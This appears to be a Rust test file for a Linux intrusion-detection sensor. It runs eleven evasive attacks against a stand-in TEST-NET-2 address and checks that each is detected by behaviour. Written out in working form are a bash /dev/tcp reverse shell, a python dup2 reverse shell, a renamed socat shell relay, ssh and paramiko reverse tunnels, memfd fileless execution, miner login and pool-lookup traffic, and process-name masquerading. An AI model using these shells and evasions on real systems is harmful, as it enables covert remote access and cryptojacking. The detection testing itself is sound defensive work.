@@ -1,0 +1,436 @@
+//! Evasion suite: attacks that avoid telltale names and argv, driven live with real programs,
+//! each of which must be caught by what it does (protocol bytes, socket stdio, dup2 onto stdio,
+//! memfd execution, DNS names, SNI). A renamed copy of OpenSSH, paramiko inside python3, bash
+//! `/dev/tcp`, a python socket+dup2 shell, socat renamed, a memfd exec, Stratum/XMRig logins sent
+//! with writev/sendmsg, DNS lookups through the system resolver and raw UDP, a TLS ClientHello to
+//! a pool name, a relay, a disguised binary. "External" hosts are an address of TEST-NET-2
+//! (198.51.100.77) put on `lo` for the test.
+//!
+//! Prints the recall table (attack, expected rule, got, latency); `cargo xtask recall` runs just
+//! this suite. One test function: the scenarios share the sshd and the address.
+
+use std::{
+    io::{Read, Write},
+    net::{TcpListener, TcpStream},
+    path::{Path, PathBuf},
+    process::{Child, Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use sensor::rules::Alert;
+use sensor_tests::{require_root, EventExt, Sensor, WAIT};
+
+const SSHD_PORT: u16 = 2223;
+/// TEST-NET-2 (RFC 5737): never routed, so an "external" peer that is really this host.
+const EXT: &str = "198.51.100.77";
+
+struct Cleanup(PathBuf);
+impl Drop for Cleanup {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+        let _ = Command::new("ip")
+            .args(["addr", "del", &format!("{EXT}/32"), "dev", "lo"])
+            .stderr(Stdio::null())
+            .status();
+    }
+}
+
+/// Kills a child and its process group when dropped.
+struct Kill(Child);
+impl Drop for Kill {
+    fn drop(&mut self) {
+        // SAFETY: signalling the process group this test created (`process_group(0)`).
+        unsafe { libc::kill(-(self.0.id() as i32), libc::SIGKILL) };
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn spawn(c: &mut Command) -> Kill {
+    use std::os::unix::process::CommandExt;
+    Kill(
+        c.process_group(0)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap_or_else(|e| panic!("{c:?}: {e}")),
+    )
+}
+
+fn sh(cmd: &str) {
+    let st = Command::new("sh").arg("-c").arg(cmd).status().unwrap();
+    assert!(st.success(), "{cmd}");
+}
+
+fn wait_port(port: u16) {
+    let t = Instant::now();
+    while TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(t.elapsed() < Duration::from_secs(15), "port {port} never opened");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// A listener on `addr` that accepts connections and holds them open (reading and discarding)
+/// until the test ends; returns its port.
+fn listener(addr: &str) -> u16 {
+    let l = TcpListener::bind((addr, 0)).unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for c in l.incoming().flatten() {
+            std::thread::spawn(move || {
+                let mut c = c;
+                let mut b = [0u8; 4096];
+                let _ = c.set_read_timeout(Some(Duration::from_secs(60)));
+                while matches!(c.read(&mut b), Ok(n) if n > 0) {}
+            });
+        }
+    });
+    port
+}
+
+/// A "shell catcher": accepts one connection, sends `exit` after a moment, reads until EOF.
+fn catcher() -> u16 {
+    let l = TcpListener::bind((EXT, 0)).unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for c in l.incoming().flatten() {
+            std::thread::spawn(move || {
+                let mut c = c;
+                std::thread::sleep(Duration::from_millis(1500));
+                let _ = c.write_all(b"exit\n");
+                let _ = c.set_read_timeout(Some(Duration::from_secs(10)));
+                let mut b = [0u8; 4096];
+                while matches!(c.read(&mut b), Ok(n) if n > 0) {}
+            });
+        }
+    });
+    port
+}
+
+fn sshd(dir: &Path) -> Kill {
+    std::fs::create_dir_all("/run/sshd").unwrap();
+    let d = dir.display();
+    sh(&format!(
+        "ssh-keygen -q -t ed25519 -N '' -f {d}/host && ssh-keygen -q -t ed25519 -N '' -f {d}/id && \
+         cp {d}/id.pub {d}/authorized_keys && chmod 600 {d}/authorized_keys"
+    ));
+    std::fs::write(
+        dir.join("sshd_config"),
+        format!(
+            "Port {SSHD_PORT}\nListenAddress 127.0.0.1\nHostKey {d}/host\nAuthorizedKeysFile {d}/authorized_keys\n\
+             PidFile {d}/sshd.pid\nUsePAM no\nStrictModes no\nPermitRootLogin yes\nPasswordAuthentication no\n\
+             AllowTcpForwarding yes\nGatewayPorts no\nX11Forwarding no\nPrintMotd no\n"
+        ),
+    )
+    .unwrap();
+    let k = spawn(
+        Command::new("/usr/sbin/sshd")
+            .args(["-D", "-e", "-f"])
+            .arg(dir.join("sshd_config")),
+    );
+    wait_port(SSHD_PORT);
+    k
+}
+
+/// One row of the recall table.
+struct Row {
+    attack: &'static str,
+    rule: &'static str,
+    got: Option<Alert>,
+    latency: Duration,
+}
+
+/// Waits for `rule` on a process matching `pid` (any pid when `None`) whose alert satisfies
+/// `more`, timing from `t0`.
+fn expect(
+    s: &Sensor,
+    rows: &mut Vec<Row>,
+    attack: &'static str,
+    rule: &'static str,
+    t0: Instant,
+    pred: impl Fn(&Alert) -> bool,
+) {
+    let got = s.wait_alert(WAIT, |a| a.rule == rule && pred(a));
+    rows.push(Row {
+        attack,
+        rule,
+        got,
+        latency: t0.elapsed(),
+    });
+}
+
+#[test]
+fn evasions_are_caught_by_behaviour() {
+    if !require_root("evasions_are_caught_by_behaviour") {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("evasion-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let _clean = Cleanup(dir.clone());
+    let _ = Command::new("ip")
+        .args(["addr", "add", &format!("{EXT}/32"), "dev", "lo"])
+        .stderr(Stdio::null())
+        .status();
+    let _sshd = sshd(&dir);
+    let s = Sensor::start(&[]);
+    let mut rows: Vec<Row> = vec![];
+    let d = dir.display().to_string();
+    let key = dir.join("id").display().to_string();
+    let py = "/usr/bin/python3";
+
+    // 1. A copy of OpenSSH under another name, options after the destination.
+    let fake = dir.join("kthelper");
+    std::fs::copy("/usr/bin/ssh", &fake).unwrap();
+    let target = listener("127.0.0.1");
+    let t0 = Instant::now();
+    let _renamed = spawn(Command::new(&fake).args([
+        "root@127.0.0.1",
+        "-i",
+        &key,
+        "-p",
+        &SSHD_PORT.to_string(),
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "BatchMode=yes",
+        "-N",
+        "-R",
+        &format!("19001:127.0.0.1:{target}"),
+    ]));
+    let fake_s = fake.display().to_string();
+    let by_fake = |a: &Alert| a.exe.as_deref() == Some(fake_s.as_str());
+    expect(&s, &mut rows, "renamed ssh -R (options after destination)", "ssh-forwarding-flags", t0, by_fake);
+    expect(&s, &mut rows, "renamed ssh: SSH banner from an unexpected binary", "ssh-protocol-from-unexpected-binary", t0, by_fake);
+    wait_port(19001);
+    let t0 = Instant::now();
+    let mut c = TcpStream::connect(("127.0.0.1", 19001)).unwrap();
+    let _ = c.write_all(b"hello");
+    expect(&s, &mut rows, "renamed ssh: remote forward used", "ssh-remote-forward-in-use", t0, by_fake);
+    drop(c);
+
+    // 2. paramiko inside python3 opening a reverse forward and serving it.
+    let script = dir.join("fwd.py");
+    std::fs::write(
+        &script,
+        format!(
+            r#"
+import paramiko, socket, threading
+c = paramiko.SSHClient()
+c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+c.connect("127.0.0.1", port={SSHD_PORT}, username="root", key_filename="{key}", allow_agent=False, look_for_keys=False)
+t = c.get_transport()
+t.request_port_forward("127.0.0.1", 19002)
+while True:
+    ch = t.accept(60)
+    if ch is None:
+        break
+    s = socket.create_connection(("127.0.0.1", {target}))
+    s.sendall(ch.recv(100))
+"#
+        ),
+    )
+    .unwrap();
+    let t0 = Instant::now();
+    let pyfwd = spawn(Command::new(py).arg(&script));
+    let pypid = pyfwd.0.id();
+    expect(&s, &mut rows, "paramiko in python3: SSH banner", "ssh-protocol-from-unexpected-binary", t0, |a| a.pid == pypid);
+    wait_port(19002);
+    let t0 = Instant::now();
+    let mut c = TcpStream::connect(("127.0.0.1", 19002)).unwrap();
+    let _ = c.write_all(b"hello");
+    expect(&s, &mut rows, "paramiko in python3: remote forward used", "ssh-remote-forward-in-use", t0, |a| a.pid == pypid);
+    drop(c);
+
+    // 3. bash -i >& /dev/tcp/HOST/PORT 0>&1
+    let port = catcher();
+    let t0 = Instant::now();
+    let _b = spawn(Command::new("bash").args([
+        "-c",
+        &format!("bash -i >& /dev/tcp/{EXT}/{port} 0>&1"),
+    ]));
+    expect(&s, &mut rows, "bash /dev/tcp: the shell connects out", "shell-network-connect", t0, |a| {
+        a.event.net().is_some_and(|n| n.dst_port == Some(port))
+    });
+    expect(&s, &mut rows, "bash /dev/tcp: interactive shell on the socket", "reverse-shell-socket-stdio", t0, |a| {
+        a.event.exec().and_then(|x| x.stdio.as_ref()).is_some_and(|st| st.peer_port == Some(port))
+    });
+
+    // 4. python socket + dup2 + /bin/sh
+    let port = catcher();
+    let t0 = Instant::now();
+    let pys = spawn(Command::new(py).args([
+        "-c",
+        &format!("import socket,os,subprocess; s=socket.create_connection(('{EXT}',{port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call(['/bin/sh','-i'])"),
+    ]));
+    let pyspid = pys.0.id();
+    expect(&s, &mut rows, "python dup2 reverse shell: socket onto stdio", "socket-dup-to-stdio", t0, |a| a.pid == pyspid);
+    expect(&s, &mut rows, "python dup2 reverse shell: sh on the socket", "reverse-shell-socket-stdio", t0, |a| {
+        a.event.exec().and_then(|x| x.stdio.as_ref()).is_some_and(|st| st.peer_port == Some(port))
+    });
+
+    // 5. socat copied to another name, EXEC:/bin/sh
+    let port = catcher();
+    let relay = dir.join("updater");
+    std::fs::copy("/usr/bin/socat", &relay).unwrap();
+    let t0 = Instant::now();
+    let _so = spawn(Command::new(&relay).args([
+        &format!("TCP:{EXT}:{port}"),
+        "EXEC:/bin/sh",
+    ]));
+    // socat hands EXEC a socketpair and relays: the shell's stdio are unix sockets whose
+    // other end is held by the (renamed) socat with its external connection.
+    expect(&s, &mut rows, "renamed socat EXEC:/bin/sh", "shell-relayed-to-network", t0, |a| {
+        a.lineage.first().and_then(|p| p.exe.as_deref()) == Some(relay.display().to_string().as_str())
+    });
+
+    // 6. A program run from a memfd (fexecve).
+    let t0 = Instant::now();
+    let out = Command::new(py)
+        .args([
+            "-c",
+            "import os; fd=os.memfd_create('worker'); os.write(fd, open('/bin/true','rb').read()); os.execve(fd, ['worker'], {})",
+        ])
+        .status()
+        .unwrap();
+    assert!(out.success());
+    // The kernel names the task after the memfd (`memfd:worker`); the exe is `/dev/fd/N` or,
+    // when /proc was read in time, `/memfd:worker (deleted)`.
+    expect(&s, &mut rows, "memfd exec (fexecve)", "fileless-exec", t0, |a| {
+        a.comm == "memfd:worker" && a.event.exec().is_some_and(|x| x.exe_unlinked)
+    });
+
+    // 7. XMRig login with the agent past byte 64, sent with sendmsg; Stratum with writev.
+    let pool = listener(EXT);
+    let wallet = "4".repeat(95);
+    let t0 = Instant::now();
+    // Two processes: alerts of one rule for one process are de-duplicated.
+    let st = Command::new(py)
+        .args(["-c", &format!(
+            "import socket,time\n\
+             s=socket.create_connection(('{EXT}',{pool}))\n\
+             s.sendmsg([b'{{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{{\"login\":\"{wallet}\",', b'\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\"}}}}\\n'])\n\
+             time.sleep(0.3)"
+        )])
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let st = Command::new(py)
+        .args(["-c", &format!(
+            "import socket,os,time\n\
+             t=socket.create_connection(('{EXT}',{pool}))\n\
+             os.writev(t.fileno(), [b'{{\"id\":1,\"method\":\"mining.', b'subscribe\",\"params\":[\"cpuminer/2.5\"]}}\\n'])\n\
+             time.sleep(0.3)"
+        )])
+        .status()
+        .unwrap();
+    assert!(st.success());
+    expect(&s, &mut rows, "XMRig login via sendmsg (agent past byte 64)", "stratum-handshake", t0, |a| {
+        a.event
+            .net_payload()
+            .is_some_and(|p| p.app.miner_agent.as_deref().is_some_and(|x| x.starts_with("XMRig/6.21.0")))
+    });
+    expect(&s, &mut rows, "Stratum subscribe via writev", "stratum-handshake", t0, |a| {
+        a.event
+            .net_payload()
+            .is_some_and(|p| p.app.rpc_method.as_deref() == Some("mining.subscribe"))
+    });
+
+    // 8. DNS: raw UDP, and the system resolver (getent) pointed at 127.0.0.1 in a private mount
+    //    namespace.
+    let t0 = Instant::now();
+    sh(&format!(
+        "{py} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pool\\x0asupportxmr\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', 53))\""
+    ));
+    expect(&s, &mut rows, "DNS query of a pool name (raw UDP)", "mining-pool-dns-lookup", t0, |a| {
+        a.comm.starts_with("python")
+    });
+    std::fs::write(dir.join("resolv.conf"), "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n").unwrap();
+    let t0 = Instant::now();
+    let _ = Command::new("unshare")
+        .args(["-m", "sh", "-c", &format!("mount --bind {d}/resolv.conf /etc/resolv.conf && getent ahosts gulf.moneroocean.stream")])
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    expect(&s, &mut rows, "DNS via the system resolver (getent)", "mining-pool-dns-lookup", t0, |a| a.comm == "getent");
+    let t0 = Instant::now();
+    sh(&format!(
+        "{py} -c \"import socket\nfor i in range(40): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([6]) + ('c%05d' % i).encode() + b'\\x01t\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01', ('127.0.0.1', 53))\""
+    ));
+    expect(&s, &mut rows, "DNS tunnel: 40 names of one zone", "dns-tunnel-shape", t0, |a| a.comm.starts_with("python"));
+
+    // 9. TLS ClientHello naming a pool (python ssl), to a listener that never answers.
+    let t0 = Instant::now();
+    let _ = Command::new(py)
+        .args(["-c", &format!(
+            "import socket,ssl\n\
+             s=socket.create_connection(('{EXT}',{pool}))\n\
+             s.settimeout(1)\n\
+             try: ssl.create_default_context().wrap_socket(s, server_hostname='xmr.pool.supportxmr.com')\n\
+             except Exception: pass"
+        )])
+        .status()
+        .unwrap();
+    expect(&s, &mut rows, "TLS SNI of a pool", "mining-pool-tls-or-http", t0, |a| {
+        a.event.net_payload().is_some_and(|p| p.app.sni.as_deref() == Some("xmr.pool.supportxmr.com"))
+    });
+
+    // 10. A hand-written relay: holds an external connection, then connects to a local service.
+    let t0 = Instant::now();
+    let _ = Command::new(py)
+        .args(["-c", &format!(
+            "import socket,time\n\
+             up=socket.create_connection(('{EXT}',{pool}))\n\
+             time.sleep(2.5)\n\
+             down=socket.create_connection(('127.0.0.1',{target}))\n\
+             time.sleep(0.3)"
+        )])
+        .status()
+        .unwrap();
+    expect(&s, &mut rows, "relay: external link, then a local service", "relay-external-to-local", t0, |a| {
+        a.event.net().is_some_and(|n| n.dst_port == Some(target))
+    });
+
+    // 11. Disguised binaries: a daemon's name in /tmp, a kernel-thread argv[0].
+    let kw = dir.join("kworker");
+    std::fs::copy("/bin/true", &kw).unwrap();
+    let t0 = Instant::now();
+    assert!(Command::new(&kw).status().unwrap().success());
+    let kw_s = kw.display().to_string();
+    expect(&s, &mut rows, "daemon name on a /tmp binary", "masquerading-process-name", t0, |a| {
+        a.exe.as_deref() == Some(kw_s.as_str())
+    });
+    let t0 = Instant::now();
+    sh("bash -c \"exec -a '[kworker/0:1]' /bin/true\"");
+    expect(&s, &mut rows, "kernel-thread argv[0]", "masquerading-process-name", t0, |a| {
+        a.argv.first().is_some_and(|x| x == "[kworker/0:1]")
+    });
+
+    // The recall table.
+    println!("\n| attack | expected rule | got | latency |\n|---|---|---|---|");
+    for r in &rows {
+        println!(
+            "| {} | `{}` | {} | {} |",
+            r.attack,
+            r.rule,
+            match &r.got {
+                Some(a) => format!("yes ({:?}, pid {}, {})", a.severity, a.pid, a.exe.as_deref().unwrap_or(&a.comm)),
+                None => "**no**".into(),
+            },
+            if r.got.is_some() {
+                format!("≤ {} ms", r.latency.as_millis())
+            } else {
+                "-".into()
+            }
+        );
+    }
+    let missed: Vec<_> = rows.iter().filter(|r| r.got.is_none()).map(|r| r.attack).collect();
+    // Every alert carries the lineage of its process (the whole story in one record).
+    for r in rows.iter().filter_map(|r| r.got.as_ref()) {
+        assert!(!r.lineage.is_empty(), "{} has no lineage", r.rule);
+    }
+    drop(s.stop());
+    assert!(missed.is_empty(), "missed: {missed:?}");
+}
